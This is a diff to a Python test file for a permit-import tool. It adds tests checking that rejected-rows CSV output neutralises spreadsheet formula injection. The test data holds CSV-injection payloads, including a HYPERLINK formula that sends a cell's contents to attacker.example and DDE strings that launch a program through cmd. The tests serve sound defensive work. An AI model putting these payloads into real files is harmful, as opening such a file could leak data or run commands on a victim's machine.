@@ -15,6 +15,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import time
 from pathlib import Path
 
@@ -30,6 +31,8 @@ from verifier.reasons import error_sentence
 # The bounds SECURITY.md and the officer's guide give: how long a line, how far an open quote.
 MAX_RECORD_CHARS = 131_072
 MAX_RECORD_LINES = 100
+# What a spreadsheet may take for the start of a formula (OWASP, CSV injection).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def permit_import(city: City, path: Path) -> tuple[dict[str, object], list[dict[str, str]]]:
@@ -167,3 +170,40 @@ def test_the_new_reasons_have_a_sentence_in_both_languages() -> None:
     for reason in ("line_too_long", "unbalanced_quote"):
         english, vietnamese = error_sentence(reason, "en"), error_sentence(reason, "vi")
         assert english and vietnamese and english != vietnamese
+
+
+# --- CSV written: safe to open in a spreadsheet ------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', "+84 Coffee", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted once", "''+twice"]
+
+
+def test_formula_in_a_holder_name_is_neutralised_in_the_rejected_rows_file(officer: City, tmp_path: Path) -> None:
+    rows = [row(f"F-{i}", holder_name=formula, holder_address=formula, activities=formula, valid_until="31/02/2028")
+            for i, formula in enumerate(FORMULAS)]
+    rows.append(row("=1+1", holder_id="@0312345678", valid_until="-1"))
+    report, rejected = permit_import(officer, write_csv(tmp_path / "paper.csv", rows))
+    assert (report["imported"], report["rejected"]) == (0, len(rows))
+    for cells in rejected:
+        for value in cells.values():
+            assert not value.startswith(FORMULA_START), cells
+    # A cell that came neutralised already is read as the value behind it, and written as that.
+    assert [r["holder_name"] for r in rejected[: len(FORMULAS)]] == [*("'" + f for f in FORMULAS[:-2]), "'=already quoted once", "''+twice"]
+    assert (rejected[-1]["number"], rejected[-1]["holder_id"], rejected[-1]["valid_until"]) == ("'=1+1", "'@0312345678", "'-1")
+
+
+def test_formula_at_the_start_of_an_unreadable_line_is_neutralised_in_the_rejected_rows_file(officer: City, tmp_path: Path) -> None:
+    path = tmp_path / "paper.csv"
+    path.write_text(",".join(HEADER) + "\n" + "=cmd|' /C calc'!A0,0312345678,\"Công ty,,,,,2028-05-31\n", encoding="utf-8")
+    report, rejected = permit_import(officer, path)
+    assert report["rejected"] == 1
+    assert rejected[0]["number"] == "'=cmd|' /C calc'!A0,0312345678,\"Công ty,,,,,2028-05-31"
+    assert rejected[0]["error"].startswith("unbalanced_quote: ")
+
+
+def test_every_csv_the_project_writes_goes_through_the_neutralising_writer() -> None:
+    root = Path(__file__).resolve().parents[2]
+    sources = [*root.glob("keys/**/*.py"), *root.glob("permits/**/*.py"), *root.glob("verifier/**/*.py"), *root.glob("bench/**/*.py"),
+               root / "cli.py"]
+    writers = {str(path.relative_to(root)) for path in sources if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())}
+    assert writers == {"permits/spreadsheet.py"}
